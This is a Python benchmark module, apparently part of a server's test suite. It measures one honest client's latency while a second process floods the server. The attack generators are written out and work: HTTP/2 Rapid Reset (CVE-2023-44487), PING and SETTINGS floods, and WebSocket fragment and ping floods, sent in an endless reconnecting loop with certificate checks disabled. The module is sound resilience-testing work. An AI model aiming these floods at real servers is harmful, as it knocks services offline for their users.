"""One honest client beside one that attacks: what the server's bounds are worth to the others."""

from __future__ import annotations

import asyncio
import multiprocessing
import os
import socket
import ssl
import statistics
import time
from collections.abc import Callable, Iterator
from urllib.parse import urlsplit

from h2.config import H2Configuration
from h2.connection import H2Connection
from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame

from bench.carriage import Route
from bench.client import Server
from bench.frames import PING, TEXT, frame

NICE = 5
"""The attacker's share of the machine comes after the honest client's: else its CPU time would be what is measured."""

PIECE = 64 * 1024
"""Octets that an attacker writes at a time."""

GAP = 0.002
"""Seconds between two Requests of the honest client."""

Attack = Callable[[Route], Iterator[bytes]]


def rapid_reset(route: Route) -> Iterator[bytes]:
    """Open streams and reset them at once (CVE-2023-44487)."""
    h2 = _client()
    yield h2.data_to_send()
    fields = [
        (":method", "GET"),
        (":scheme", "https"),
        (":authority", urlsplit(route.url).netloc),
        (":path", "/jmap/session"),
    ]
    id = 1
    while True:
        pieces = []
        for _ in range(200):
            h2.send_headers(id, [*fields, ("authorization", route.credentials)], end_stream=True)
            pieces.append(h2.data_to_send() + RstStreamFrame(id, error_code=8).serialize())
            h2.streams.pop(id)
            id += 2
        yield b"".join(pieces)


def ping_flood(route: Route) -> Iterator[bytes]:
    """HTTP/2 PING frames."""
    yield _client().data_to_send()
    piece = PingFrame(0, opaque_data=b"attacked").serialize() * (PIECE // 17)
    while True:
        yield piece


def settings_flood(route: Route) -> Iterator[bytes]:
    """HTTP/2 SETTINGS frames."""
    yield _client().data_to_send()
    piece = SettingsFrame(0, settings={4: 65_535}).serialize() * (PIECE // 15)
    while True:
        yield piece


def empty_fragments(route: Route) -> Iterator[bytes]:
    """A WebSocket message of empty fragments without end."""
    yield _handshake(route)
    yield frame(b"", TEXT, final=False)
    piece = frame(b"", 0, final=False) * (PIECE // 6)
    while True:
        yield piece


def tiny_fragments(route: Route) -> Iterator[bytes]:
    """A WebSocket message of fragments of one octet."""
    yield _handshake(route)
    yield frame(b"{", TEXT, final=False)
    piece = frame(b" ", 0, final=False) * (PIECE // 7)
    while True:
        yield piece


def socket_pings(route: Route) -> Iterator[bytes]:
    """WebSocket Pings, each of which asks for a Pong."""
    yield _handshake(route)
    piece = frame(b"attacked", PING) * (PIECE // 14)
    while True:
        yield piece


ATTACKS: dict[str, tuple[str, Attack]] = {
    "rapid-reset": ("h2", rapid_reset),
    "ping-flood": ("h2", ping_flood),
    "settings-flood": ("h2", settings_flood),
    "empty-fragments": ("http/1.1", empty_fragments),
    "tiny-fragments": ("http/1.1", tiny_fragments),
    "socket-pings": ("http/1.1", socket_pings),
}
"""By name: the protocol, and what is sent."""


def _client() -> H2Connection:
    h2 = H2Connection(H2Configuration(client_side=True))
    h2.initiate_connection()
    return h2


def _handshake(route: Route) -> bytes:
    parts = urlsplit(route.url)
    fields = [("host", parts.netloc), ("upgrade", "websocket"), ("connection", "Upgrade")]
    fields += [("sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="), *route.fields()]
    lines = [f"GET {parts.path} HTTP/1.1", *(f"{name}: {value}" for name, value in fields), "", ""]
    return "\r\n".join(lines).encode()


def _attack(name: str, route_url: str, credentials: str) -> None:
    """Attack as fast as can be, and come back when thrown out, until this process is ended."""
    os.nice(NICE)
    alpn, attack = ATTACKS[name]
    route = Route(route_url, credentials)
    parts = urlsplit(route_url)
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    while True:
        try:
            with (
                socket.create_connection((parts.hostname, parts.port), 10) as plain,
                context.wrap_socket(plain, server_hostname=parts.hostname) as secure,
            ):
                _send(secure, attack(route))
        except OSError:
            continue


def _send(secure: ssl.SSLSocket, pieces: Iterator[bytes]) -> None:
    """Send, and read what is answered, so that not reading is not the attack."""
    secure.setblocking(False)
    for piece in pieces:
        left = memoryview(piece)
        while left:
            try:
                left = left[secure.send(left) :]
            except ssl.SSLWantWriteError:
                time.sleep(0.0005)
            try:
                while secure.recv(PIECE):
                    pass
                raise ConnectionResetError
            except ssl.SSLWantReadError:
                pass


async def attacked(server: Server, names: list[str], seconds: float, rounds: int) -> None:
    """Measure the honest client, quiet and beside each attack in turn, and print medians of the rounds."""
    took: dict[str, list[tuple[float, float]]] = {"quiet": [], **{name: [] for name in names}}
    for _ in range(rounds):
        for name, found in took.items():
            found.append(await _beside(server, name, seconds))
    print(f"{'attacked ' + server.carriage:<20} {'p50':>10} {'p99':>10}   of the quiet one's p99")
    quiet = statistics.median(worst for _, worst in took["quiet"])
    for name, found in took.items():
        middle, worst = (statistics.median(column) for column in zip(*found, strict=True))
        print(f"{name:<20} {middle * 1000:>7.2f} ms {worst * 1000:>7.2f} ms   {worst / quiet:.1f}")


async def _beside(server: Server, name: str, seconds: float) -> tuple[float, float]:
    session = server.session()
    [honest] = await server.sockets(session, 1)
    attacker = None
    if name != "quiet":
        route = server.route(session)
        # neither a loop nor open connections come along
        attacker = multiprocessing.get_context("spawn").Process(
            target=_attack, args=(name, route.url, route.credentials), daemon=True
        )
        attacker.start()
        await asyncio.sleep(1.5)
    took = []
    end = time.perf_counter() + seconds
    while (start := time.perf_counter()) < end:
        await honest.ask([("Core/echo", {"text": "x" * 200})])
        took.append(time.perf_counter() - start)
        await asyncio.sleep(GAP)
    if attacker is not None:
        attacker.terminate()
        attacker.join()
    honest.close()
    return statistics.median(took), statistics.quantiles(took, n=100)[98]
